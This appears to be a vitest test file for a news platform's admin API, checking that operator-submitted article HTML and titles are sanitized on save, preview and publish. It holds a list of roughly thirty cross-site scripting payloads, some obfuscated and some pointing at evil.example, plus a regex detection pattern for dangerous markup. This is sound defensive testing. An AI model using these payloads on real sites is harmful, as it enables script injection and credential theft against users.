import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { callApi } from '../test-support/api-test-client.ts';
import { startTestPlatform, type TestPlatform } from '../test-support/test-platform.ts';
import { NewsDesk } from './test-support/news-test-kit.ts';

let platform: TestPlatform;
let desk: NewsDesk;

beforeAll(async () => {
  platform = await startTestPlatform({ rateLimitPerMinute: 100_000 });
  desk = await NewsDesk.open(platform);
});

afterAll(async () => {
  await platform?.close();
});

/** Payloads that have run script in some sanitizer or browser, and what each must not leave. */
const payloads: readonly [name: string, html: string][] = [
  ['script', '<p>a</p><script>alert(1)</script>'],
  ['script with src', '<script src="https://evil.example/x.js"></script>'],
  ['onerror', '<img src="https://cdn.example.com/x.png" onerror="alert(1)">'],
  ['onload on body', '<body onload="alert(1)"><p>x</p></body>'],
  ['javascript link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript link, spaced and cased', '<a href=" JaVaScRiPt:alert(1)">x</a>'],
  ['javascript link, entities', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['javascript link, tab inside', '<a href="java\tscript:alert(1)">x</a>'],
  ['data link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['svg', '<svg><script>alert(1)</script><circle onload="alert(1)"/></svg>'],
  ['svg animate', '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>'],
  ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['style element', '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>'],
  ['style attribute', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="https://evil.example/x.swf"></object><embed src="x">'],
  ['form', '<form action="https://evil.example"><input name="password"><button>Go</button></form>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base', '<base href="https://evil.example/">'],
  ['nested script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['comment trick', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['cdata', '<![CDATA[<script>alert(1)</script>]]>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['srcset', '<img src="https://cdn.example.com/a.png" srcset="javascript:alert(1) 1x">'],
  ['formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['protocol-relative image', '<img src="//evil.example/x.png">'],
  ['plain http image', '<img src="http://evil.example/x.png">'],
  ['xlink', '<a xlink:href="javascript:alert(1)">x</a>'],
  ['unclosed attribute', '<img src="https://cdn.example.com/a.png" alt="x" onerror=alert(1) '],
];

/** Anything that could run script, load from elsewhere or restyle the app. */
const dangerous =
  /<script|<style|<iframe|<svg|<math|<object|<embed|<form|<meta|<base|<template|<button|<input|\son\w+\s*=|javascript:|data:|style=|srcset|srcdoc|formaction|xlink|\/\/evil\.example|http:\/\//i;

describe('article HTML from an operator', () => {
  it.each(payloads)('comes out harmless: %s', async (_name, html) => {
    const saved = await desk.save({
      versions: [{ lang: 'en', title: '<img src=x onerror=alert(1)>Title', content: html }],
    });
    expect(saved.code).toBe(1);
    const stored = saved.data.versions[0];
    expect(stored?.content).not.toMatch(dangerous);
    // A title is text: markup typed into it is read as its text.
    expect(stored?.title).toBe('Title');
    expect((await desk.publish(saved.data.id)).code).toBe(1);
    const read = await callApi(platform.app, 'newsInfo', { id: saved.data.id });
    expect(read.data.content).toBe(stored?.content);
    expect(read.data.content).not.toMatch(dangerous);
  });

  it('keeps what is safe of a hostile article', async () => {
    const saved = await desk.save({
      versions: [
        {
          lang: 'en',
          title: 'Mixed',
          content:
            '<p onclick="x()">Keep <strong>this</strong></p><script>drop()</script><a href="https://example.com">link</a>',
        },
      ],
    });
    expect(saved.data.versions[0]?.content).toBe(
      '<p>Keep <strong>this</strong></p><a href="https://example.com" rel="noopener noreferrer nofollow" target="_blank">link</a>',
    );
  });

  it('previews the body exactly as it would be saved', async () => {
    const html = '<p>x</p><img src=x onerror=alert(1)><script>y()</script>';
    const preview = await desk.call<{ content: string }>('POST', '/admin-api/news/preview', {
      content: html,
    });
    const saved = await desk.save({ versions: [{ lang: 'en', title: 'Same', content: html }] });
    expect(preview.data.content).toBe('<p>x</p>');
    expect(saved.data.versions[0]?.content).toBe(preview.data.content);
  });
});
